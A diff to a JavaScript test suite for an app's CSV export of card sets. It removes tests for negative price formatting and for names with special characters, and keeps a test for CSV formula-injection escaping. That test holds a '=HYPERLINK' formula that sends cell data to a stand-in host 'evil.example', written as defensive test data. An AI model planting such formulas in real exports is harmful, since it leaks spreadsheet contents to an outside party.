@@ -102,14 +102,6 @@ describe('a set as CSV', () => {
     }
   })
 
-  test('writes a negative price change as a number, not as text', () => {
-    const falls = SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))).filter(
-      (row) => row.price_change_7d?.startsWith('-'),
-    )
-    expect(falls.length).toBeGreaterThan(0)
-    for (const row of falls) expect(Number(row.price_change_7d)).toBeLessThan(0)
-  })
-
   test('escapes text that a spreadsheet would run, in every column', async () => {
     const own = await createTestApp()
     const evil = '=HYPERLINK("http://evil.example?"&A1)'
@@ -137,15 +129,6 @@ describe('a set as CSV', () => {
           expect([column, /^[=+\-@\t\r\0]/.test(cell)]).toEqual([column, false])
       }
     }
-    own.close()
-  })
-
-  test('preserves names with commas, quotes and line ends', async () => {
-    const own = await createTestApp()
-    const name = 'Rock, "Paper"\r\nand Scissors; naïve – Ω カード'
-    own.catalogDb.prepare('UPDATE cards SET name = ? WHERE id = 900201').run(name)
-    const rows = rowsOf(textOf(exportSet(own.deps, 90021, 'csv')))
-    expect(rows.find((row) => row.card_id === '900201')?.name).toBe(name)
     own.close()
   })
 })
